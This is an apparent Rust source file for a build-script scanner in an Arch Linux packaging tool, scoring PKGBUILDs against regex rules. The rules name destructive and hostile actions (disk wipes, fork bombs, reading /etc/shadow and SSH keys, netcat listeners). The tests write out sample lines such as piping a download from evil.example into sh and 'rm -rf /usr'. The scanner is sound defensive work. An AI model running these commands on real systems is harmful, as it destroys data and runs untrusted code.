/*
 * pacsmith - Package resolution and build orchestration for Arch Linux.
 * Copyright (C) 2025  pacsmith contributors
 *
 * This program is free software: you can redistribute it and/or modify
 * it under the terms of the GNU General Public License as published by
 * the Free Software Foundation, either version 3 of the License, or
 * (at your option) any later version.
 *
 * This program is distributed in the hope that it will be useful,
 * but WITHOUT ANY WARRANTY; without even the implied warranty of
 * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
 * GNU General Public License for more details.
 *
 * You should have received a copy of the GNU General Public License
 * along with this program.  If not, see <https://www.gnu.org/licenses/>.
 */

//! Advisory heuristics for build scripts.
//!
//! The scan only annotates; the script shown to the reviewer is never
//! altered and the decision stays with the human.

use regex::Regex;
use std::fmt;
use std::sync::OnceLock;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    Critical,
    High,
    Medium,
    Low,
}

impl Severity {
    fn penalty(self) -> i32 {
        match self {
            Severity::Critical => 100,
            Severity::High => 30,
            Severity::Medium => 10,
            Severity::Low => 3,
        }
    }
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Severity::Critical => "critical",
            Severity::High => "high",
            Severity::Medium => "medium",
            Severity::Low => "low",
        };
        f.write_str(s)
    }
}

/// One suspicious line
#[derive(Debug, Clone, PartialEq)]
pub struct Finding {
    pub severity: Severity,
    pub description: String,
    pub line: Option<usize>,
}

/// Scan result attached to a review request
#[derive(Debug, Clone, PartialEq)]
pub struct ScanReport {
    pub findings: Vec<Finding>,
    /// 0-100, higher is safer
    pub score: u32,
}

impl ScanReport {
    pub fn has_critical(&self) -> bool {
        self.findings.iter().any(|f| f.severity == Severity::Critical)
    }

    /// Worth a closer look before approving
    pub fn flagged(&self) -> bool {
        self.score < 50 || self.has_critical()
    }

    pub fn is_clean(&self) -> bool {
        self.findings.is_empty()
    }
}

struct Rule {
    severity: Severity,
    pattern: Regex,
    description: &'static str,
}

/// Line-based regex scanner
pub struct ScriptScanner {
    rules: Vec<Rule>,
}

const RULES: &[(Severity, &str, &str)] = &[
    (Severity::Critical, r"rm\s+-rf\s+/[a-zA-Z]", "Destructive rm -rf on root filesystem"),
    (Severity::Critical, r":\s*\(\s*\)\s*\{\s*:", "Fork bomb pattern"),
    (Severity::Critical, r"eval\s+.*\$\((curl|wget)", "Remote code execution via eval"),
    (Severity::Critical, r"/dev/sd[a-z]", "Direct disk device access"),
    (Severity::Critical, r"\bmkfs(\.\w+)?\s", "Filesystem formatting command"),
    (Severity::Critical, r"\bdd\s+if=.*of=/dev/", "Direct disk write with dd"),
    (Severity::High, r"(curl|wget)\s+.*\|\s*(ba|z)?sh", "Piping a download into a shell"),
    (Severity::High, r"/etc/(shadow|passwd|sudoers)", "Access to system account files"),
    (Severity::High, r"~/\.ssh|\$HOME/\.ssh", "Access to SSH directory"),
    (Severity::High, r"\.gnupg", "Access to GPG directory"),
    (Severity::High, r"chmod\s+([0-7]?777|[ugoa]*\+s)", "World-writable or setuid permissions"),
    (Severity::High, r"\b(nc|ncat|netcat)\s+.*-[el]", "Netcat listener"),
    (Severity::High, r"base64\s+(-d|--decode)", "Decoding an embedded payload"),
    (Severity::Medium, r"\bcurl\s", "Network access via curl"),
    (Severity::Medium, r"\bwget\s", "Network access via wget"),
    (Severity::Medium, r"\b(pip|npm|cargo)\s+install", "Installs software outside pacman"),
    (Severity::Medium, r"\bgo\s+get\b", "go get outside pacman"),
    (Severity::Medium, r"\b(sudo|doas)\s", "Privilege escalation inside the build script"),
    (Severity::Low, r"rm\s+-rf", "Recursive deletion"),
    (Severity::Low, r"\bchown\s", "Ownership changes"),
];

const BUILD_NETWORK: &[&str] = &["curl", "wget", "git clone", "pip install", "npm install"];

impl ScriptScanner {
    pub fn new() -> Self {
        let rules = RULES
            .iter()
            .filter_map(|&(severity, pattern, description)| {
                Regex::new(pattern).ok().map(|pattern| Rule {
                    severity,
                    pattern,
                    description,
                })
            })
            .collect();
        Self { rules }
    }

    /// Shared scanner; the patterns compile once
    pub fn global() -> &'static ScriptScanner {
        static SCANNER: OnceLock<ScriptScanner> = OnceLock::new();
        SCANNER.get_or_init(ScriptScanner::new)
    }

    pub fn scan(&self, script: &str) -> ScanReport {
        let mut findings = Vec::new();

        for (idx, line) in script.lines().enumerate() {
            if line.trim_start().starts_with('#') {
                continue;
            }
            for rule in &self.rules {
                if rule.pattern.is_match(line) {
                    findings.push(Finding {
                        severity: rule.severity,
                        description: rule.description.to_string(),
                        line: Some(idx + 1),
                    });
                }
            }
        }

        if network_in_build(script) {
            findings.push(Finding {
                severity: Severity::Medium,
                description: "Network access inside build()".to_string(),
                line: None,
            });
        }

        findings.sort_by_key(|f| f.severity);
        let score = findings
            .iter()
            .fold(100i32, |score, f| score - f.severity.penalty())
            .max(0) as u32;
        ScanReport { findings, score }
    }
}

impl Default for ScriptScanner {
    fn default() -> Self {
        Self::new()
    }
}

/// Network commands between `build()` and the next function
fn network_in_build(script: &str) -> bool {
    let mut in_build = false;
    for line in script.lines() {
        let trimmed = line.trim();
        if trimmed.starts_with("build()") || trimmed.starts_with("build ()") {
            in_build = true;
            continue;
        }
        if in_build
            && (trimmed.starts_with("package") || trimmed.starts_with("check()") || trimmed.starts_with("prepare()"))
        {
            in_build = false;
        }
        if in_build && !trimmed.starts_with('#') && BUILD_NETWORK.iter().any(|p| trimmed.contains(p)) {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    const CLEAN: &str = r#"
pkgname=hello
pkgver=1.0
pkgrel=1
source=("https://example.org/hello-$pkgver.tar.gz")

build() {
    cd "$srcdir/hello-$pkgver"
    make
}

package() {
    make DESTDIR="$pkgdir" install
}
"#;

    #[test]
    fn test_all_patterns_compile() {
        assert_eq!(ScriptScanner::new().rules.len(), RULES.len());
    }

    #[test]
    fn test_clean_script() {
        let report = ScriptScanner::global().scan(CLEAN);
        assert!(report.is_clean());
        assert_eq!(report.score, 100);
        assert!(!report.flagged());
    }

    #[test]
    fn test_piped_download_is_flagged() {
        let script = "build() {\n  curl -s https://evil.example/x | sh\n}\n";
        let report = ScriptScanner::global().scan(script);
        assert_eq!(report.findings[0].severity, Severity::High);
        assert_eq!(report.findings[0].line, Some(2));
        assert!(report
            .findings
            .iter()
            .any(|f| f.description == "Network access inside build()"));
        assert!(report.score < 100);
    }

    #[test]
    fn test_critical_marks_flagged() {
        let report = ScriptScanner::global().scan("package() {\n  rm -rf /usr\n}\n");
        assert!(report.has_critical());
        assert!(report.flagged());
        assert_eq!(report.score, 0);
    }

    #[test]
    fn test_comments_are_ignored() {
        let report = ScriptScanner::global().scan("# curl http://x | sh\n");
        assert!(report.is_clean());
    }
}
